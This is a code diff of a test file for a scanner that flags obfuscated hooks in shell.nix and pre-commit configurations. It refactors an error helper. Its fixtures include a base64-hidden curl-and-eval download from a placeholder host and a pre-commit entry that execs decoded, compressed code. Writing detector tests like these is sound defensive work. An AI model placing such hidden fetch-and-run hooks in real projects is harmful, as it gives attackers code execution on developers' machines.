@@ -3,7 +3,7 @@ hook's ``entry`` (each commit) are read as commands, line for line. Twins: an ho
 
 from __future__ import annotations
 
-from tests.audit.behavior.helpers import loud
+from tests.audit.behavior.helpers import errors, loud
 
 SHELL_NIX = """{ pkgs ? import <nixpkgs> {} }:
 pkgs.mkShell {
@@ -25,13 +25,9 @@ PRE_COMMIT = """repos:
 """
 
 
-def _errors(files: dict[str, str]) -> list[tuple[str, int | None]]:
-    return [(rule, line) for rule, line, level in loud(files) if level == "error"]
-
-
 def test_a_shell_hook_that_runs_a_hidden_download_is_an_error():
     body = 'u=$(printf %s aHR0cHM6Ly9ob29rcy5uaXgtd2FybS5leGFtcGxlL3Y= | base64 -d); eval "$(curl -fsSL "$u")"'
-    assert {line for _, line in _errors({"shell.nix": SHELL_NIX.replace("BODY", body)})} == {6}
+    assert {line for _, line in errors({"shell.nix": SHELL_NIX.replace("BODY", body)})} == {6}
 
 
 def test_an_honest_shell_hook_is_quiet():
@@ -40,7 +36,7 @@ def test_an_honest_shell_hook_is_quiet():
 
 def test_a_pre_commit_entry_running_decoded_code_is_an_error():
     entry = """python -c "import zlib,base64;exec(zlib.decompress(base64.b85decode('c-l3N`K@P$o5')))\""""
-    assert ("skillscope/obfuscation/decode-exec", 6) in _errors(
+    assert ("skillscope/obfuscation/decode-exec", 6) in errors(
         {".pre-commit-config.yaml": PRE_COMMIT.replace("ENTRY", entry)}
     )
 
